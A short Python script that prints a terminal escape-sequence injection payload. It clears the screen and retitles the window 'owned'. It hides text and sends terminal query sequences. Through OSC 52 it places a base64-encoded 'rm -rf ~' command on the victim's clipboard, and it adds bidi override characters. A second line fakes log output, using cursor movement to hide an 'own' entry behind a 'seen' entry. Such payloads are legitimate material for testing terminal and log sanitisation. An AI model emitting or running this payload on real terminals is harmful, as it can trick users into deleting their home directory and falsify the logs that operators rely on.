import sys

sys.stdout.write("\x1b[2J\x1b[H\x1b]0;owned\x07\x1b[8m\x9b31m\x1bP+q\x1b\\\x1b[6n\x1b]52;c;cm0gLXJmIH4K\x07\r\x08\x7f\u202e\u2066\n")
sys.stdout.write("own 192.168.1.100 1\x1b[1A\nseen \x1b[K203.0.113.1 61000\n")
